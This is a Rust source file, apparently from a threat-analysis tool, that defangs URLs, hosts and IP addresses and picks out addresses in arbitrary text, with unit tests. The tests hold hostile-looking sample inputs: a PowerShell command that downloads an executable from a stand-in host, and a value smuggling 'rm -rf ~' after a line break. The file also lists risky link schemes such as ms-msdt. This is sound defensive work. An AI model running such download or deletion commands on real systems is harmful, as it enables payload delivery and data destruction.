//! Addresses made safe to pass on: nothing links to them and nobody opens them by accident.

use super::escape::reads_as_escape;
use super::visible::Visible;

/// Schemes that programs turn into links, and what analysts write instead.
const SCHEMES: [(&str, &str); 3] = [("https", "hxxps"), ("http", "hxxp"), ("ftp", "fxp")];

/// What joins an address together; browsers take the ideographic full stops as dots too.
const JOINTS: [char; 6] = ['.', ':', '@', '\u{3002}', '\u{ff0e}', '\u{ff61}'];

impl Visible {
    /// The text of a URL, host or address with its teeth out, for copying.
    ///
    /// A leading `http`, `https` or `ftp` becomes `hxxp`, `hxxps` or `fxp`, and every dot, colon
    /// and at sign stands in brackets:
    /// `http://a.example:80` becomes `hxxp[:]//a[.]example[:]80`.
    /// What is in brackets already stays, so doing it twice changes nothing. Like every visible
    /// form the result is one line without controls: pasted into a shell, it waits for Enter.
    #[must_use]
    pub fn defanged(&self) -> Visible {
        let (scheme, rest) = split_scheme(self.as_str());
        let mut text = scheme.to_owned();
        let mut brackets = 0;
        let mut previous = None;
        let mut rest = rest.chars().peekable();
        while let Some(character) = rest.next() {
            let is_safe = previous == Some('[') && rest.peek() == Some(&']');
            if JOINTS.contains(&character) && !is_safe {
                text.extend(['[', character, ']']);
                brackets += 2;
            } else {
                text.push(character);
            }
            previous = Some(character);
        }
        // A scheme and its stand-in are equally wide.
        Visible::from_parts(text, self.width() + brackets)
    }

    /// The text with every address in it defanged, for copying what may be anything: a path, a command, a host.
    ///
    /// The text is read word by word, blanks, quotes and brackets between them. A word with `://` or `@` in it, an address of
    /// digits, and a name with dots that ends like no file's is an address; paths stay readable.
    #[must_use]
    pub fn disarmed(&self) -> Visible {
        self.disarmed_where(is_address)
    }

    /// The same for what stands where hosts do: there a name with a dot is a host, though files may be called so too.
    #[must_use]
    pub fn disarmed_among_hosts(&self) -> Visible {
        self.disarmed_where(|word| is_address(word) || is_host_among_hosts(word))
    }

    fn disarmed_where(&self, is_address: impl Fn(&str) -> bool) -> Visible {
        let is_border = |c: char| c.is_whitespace() || BORDERS.contains(&c);
        // Brackets are all that is added, a column each.
        let (mut disarmed, mut added) = (String::with_capacity(self.as_str().len()), 0);
        let mut rest = self.as_str();
        while !rest.is_empty() {
            let (word, after) = rest.split_at(rest.find(is_border).unwrap_or(rest.len()));
            if is_address(word) {
                let safe = Visible::from_parts(word.to_owned(), 0).defanged();
                added += safe.width();
                disarmed.push_str(safe.as_str());
            } else {
                disarmed.push_str(word);
            }
            let end = after.find(|c: char| !is_border(c)).unwrap_or(after.len());
            let (border, next) = after.split_at(end);
            disarmed.push_str(border);
            rest = next;
        }
        Visible::from_parts(disarmed, self.width() + added)
    }
}

/// What stands around words, beside blanks.
const BORDERS: [char; 12] = ['"', '\'', '`', '<', '>', '(', ')', '{', '}', ',', ';', '|'];

/// Last parts of names that are files rather than hosts.
const FILE_ENDS: [&str; 40] = [
    "exe", "dll", "sys", "txt", "js", "jse", "vbs", "vbe", "ps1", "bat", "cmd", "tmp", "dat", "db", "json", "xml",
    "ini", "log", "lnk", "zip", "rar", "7z", "png", "jpg", "gif", "ico", "pdf", "doc", "docx", "docm", "xls", "xlsx",
    "hta", "msi", "scr", "apk", "jar", "dex", "so", "bin",
];

/// What stands around a name within a word: programs that make links pass it over.
const PUNCTUATION: [char; 10] = ['=', '#', '!', '*', '&', '^', '~', '$', '+', '%'];

/// Schemes by which something is opened without `//` behind them.
const OPENING: [&str; 17] = [
    "http",
    "https",
    "ftp",
    "mailto",
    "javascript",
    "vbscript",
    "data",
    "file",
    "tel",
    "sms",
    "magnet",
    "search",
    "search-ms",
    "ms-msdt",
    "ms-search",
    "shell",
    "mhtml",
];

/// Whether a word would be taken for an address by a program that makes links.
fn is_address(word: &str) -> bool {
    word.contains("://") || opens(word) || parts(word).any(is_address_part)
}

/// Whether a word begins with a scheme that opens something.
fn opens(word: &str) -> bool {
    let word = word.trim_start_matches(PUNCTUATION);
    word.split_once(':').is_some_and(|(scheme, rest)| {
        !rest.is_empty() && OPENING.iter().any(|known| scheme.eq_ignore_ascii_case(known))
    })
}

/// A word without its punctuation and without what stands for a character that cannot be shown, piece by piece.
fn parts(word: &str) -> impl Iterator<Item = &str> {
    let word = word.split(PUNCTUATION);
    word.flat_map(|part| {
        let mut begin = 0;
        let escapes = part.match_indices('\\').filter(|(at, _)| part.get(at + 1..).is_some_and(is_escape));
        let mut pieces: Vec<_> = escapes
            .filter_map(|(at, _)| {
                let piece = part.get(begin..at);
                begin = (at + ESCAPE).min(part.len());
                piece
            })
            .collect();
        pieces.extend(part.get(begin..));
        pieces
    })
}

/// Columns of `\x1b`; of `\u{202e}` a border has cut all but the first two away.
const ESCAPE: usize = 4;

/// Whether what stands behind a backslash is of an escape and not of a path: `\x5c` is a backslash itself, and a letter alone may have
/// had a brace behind it.
fn is_escape(rest: &str) -> bool {
    matches!(rest, "x" | "u") || reads_as_escape(rest.as_bytes()) && !rest.starts_with("x5c")
}

fn is_address_part(word: &str) -> bool {
    if is_of_digits(word) {
        return true;
    }
    // A share of another machine is opened as well.
    if let Some(share) = word.strip_prefix(r"\\") {
        return share.split(['\\', '@']).next().is_some_and(|machine| machine.contains('.'));
    }
    // Without a scheme the one of the page counts.
    let word = word.strip_prefix("//").unwrap_or(word);
    if is_path(word) {
        return false;
    }
    let host = host(word);
    let last = last_part(host).to_ascii_lowercase();
    let is_name = last.chars().count() >= 2 && last.chars().all(char::is_alphabetic) || last.starts_with("xn--");
    let has_dot = host.trim_end_matches(JOINTS).trim_start_matches('.').contains(JOINTS);
    word.contains('@') && has_dot || has_dot && is_name && !FILE_ENDS.contains(&last.as_str())
}

/// Whether a word that stands where hosts do has the form of one.
fn is_host_among_hosts(word: &str) -> bool {
    let word = word.strip_prefix("//").unwrap_or(word);
    let host = host(word);
    !is_path(word) && host.trim_end_matches(JOINTS).contains(JOINTS) && last_part(host).chars().any(char::is_alphabetic)
}

fn is_path(word: &str) -> bool {
    word.contains('\\') || word.as_bytes().get(1) == Some(&b':') || word.starts_with('/')
}

/// Whether a word is an IP address, be it with a port, a path or brackets.
fn is_of_digits(word: &str) -> bool {
    // The address that is none is two colons, which stand in source text as well.
    let is_ip = |text: &str| text != "::" && text.parse::<std::net::IpAddr>().is_ok();
    let in_brackets = word.trim_start_matches('/').strip_prefix('[').and_then(|rest| rest.split_once(']'));
    is_ip(word)
        || is_ip(word.trim_start_matches('/').split([':', '/']).next().unwrap_or_default())
        || in_brackets.is_some_and(|(inside, _)| is_ip(inside))
}

fn host(word: &str) -> &str {
    word.split(['/', ':', '?', '#', '=']).next().unwrap_or_default()
}

/// What stands behind the last dot of a name.
fn last_part(host: &str) -> &str {
    host.trim_end_matches(JOINTS).rsplit(JOINTS).next().unwrap_or_default()
}

/// The harmless form of a leading scheme, and what follows the scheme.
fn split_scheme(text: &str) -> (&'static str, &str) {
    let found = SCHEMES.iter().find_map(|(scheme, harmless)| {
        let (start, rest) = text.split_at_checked(scheme.len())?;
        let is_scheme = rest.starts_with("://") || rest.starts_with("[:]//");
        (start.eq_ignore_ascii_case(scheme) && is_scheme).then_some((*harmless, rest))
    });
    found.unwrap_or(("", text))
}

#[cfg(test)]
mod tests {
    use crate::text::Untrusted;

    fn defanged(text: &str) -> String {
        Untrusted::from(text).visible().defanged().into()
    }

    #[test]
    fn addresses_inside_of_other_text_lose_their_teeth_and_paths_stay() {
        for (text, harmless) in [
            (r"C:\Users\a\stage.js", r"C:\Users\a\stage.js"),
            ("svchost.exe", "svchost.exe"),
            (
                "powershell -c iwr http://a.example/x.exe -o x.exe",
                "powershell -c iwr hxxp[:]//a[.]example/x[.]exe -o x.exe",
            ),
            ("ping a.example:80 (192.0.2.1)", "ping a[.]example[:]80 (192[.]0[.]2[.]1)"),
            ("me@mail.example", "me[@]mail[.]example"),
            ("a.example → 192.0.2.7", "a[.]example → 192[.]0[.]2[.]7"),
            ("WMI:Win32_Process", "WMI:Win32_Process"),
            ("evil.xn--p1ai EVIL.XN--P1AI.", "evil[.]xn--p1ai EVIL[.]XN--P1AI[.]"),
            ("//evil.example/x", "//evil[.]example/x"),
            ("[2001:db8::1]:80", "[2001[:]db8[:][:]1][:]80"),
            ("mailto:a@b.example =c@d.example", "mailto[:]a[@]b[.]example =c[@]d[.]example"),
            ("=a.example #b.example c.example!", "=a[.]example #b[.]example c[.]example!"),
            (
                "a.example\u{7} b\u{202e}.c.example 192.0.2.1\u{1}",
                r"a[.]example\x07 b\u{202e}[.]c[.]example 192[.]0[.]2[.]1\x01",
            ),
            (r"http:a.example HTTP:\\b.example", r"http[:]a[.]example HTTP[:]\\b[.]example"),
            (
                r"\\192.0.2.1\share\x \\b.example@SSL\x \\host\share.x",
                r"\\192[.]0[.]2[.]1\share\x \\b[.]example[@]SSL\x \\host\share.x",
            ),
            ("ms-msdt:/id javascript:alert tel:1 data:", "ms-msdt[:]/id javascript[:]alert tel[:]1 data:"),
            (r"C:\x64\a.b.c.net %TEMP%\a.js", r"C:\x64\a.b.c.net %TEMP%\a.js"),
            (r#"[Enum]::"Any" .NET. nEt.WebClient"#, r#"[Enum]::"Any" .NET. nEt[.]WebClient"#),
            ("kernel32.dll setup.exe a.zip /usr/lib/a.so 1.2.3", "kernel32.dll setup.exe a.zip /usr/lib/a.so 1.2.3"),
        ] {
            let found = Untrusted::from(text).visible().disarmed();
            assert_eq!(found.as_str(), harmless);
            assert_eq!(found.width(), found.as_str().chars().count());
        }
    }

    #[test]
    fn where_hosts_stand_a_name_is_a_host_whatever_it_ends_in() {
        for (text, harmless) in [
            ("payload.zip", "payload[.]zip"),
            ("evil.so → 192.0.2.7", "evil[.]so → 192[.]0[.]2[.]7"),
            ("GET //evil.doc/x", "GET //evil[.]doc/x"),
            (r"1.2 C:\a.zip /x/a.so tcp", r"1.2 C:\a.zip /x/a.so tcp"),
        ] {
            assert_eq!(Untrusted::from(text).visible().disarmed_among_hosts().as_str(), harmless);
        }
    }

    #[test]
    fn addresses_lose_their_teeth() {
        for (address, harmless) in [
            ("http://a.example/x.exe", "hxxp[:]//a[.]example/x[.]exe"),
            ("HTTPS://A.example:8443", "hxxps[:]//A[.]example[:]8443"),
            ("ftp://u@h", "fxp[:]//u[@]h"),
            ("http[:]//half.done", "hxxp[:]//half[.]done"),
            ("http.example", "http[.]example"),
            ("192.0.2.1", "192[.]0[.]2[.]1"),
            ("2001:db8::1", "2001[:]db8[:][:]1"),
            ("me@mail.example", "me[@]mail[.]example"),
            ("evil\u{3002}example", "evil[\u{3002}]example"),
            ("a.b\r\nrm -rf ~", r"a[.]b\x0d\x0arm -rf ~"),
            ("", ""),
        ] {
            assert_eq!(defanged(address), harmless);
        }
    }
}
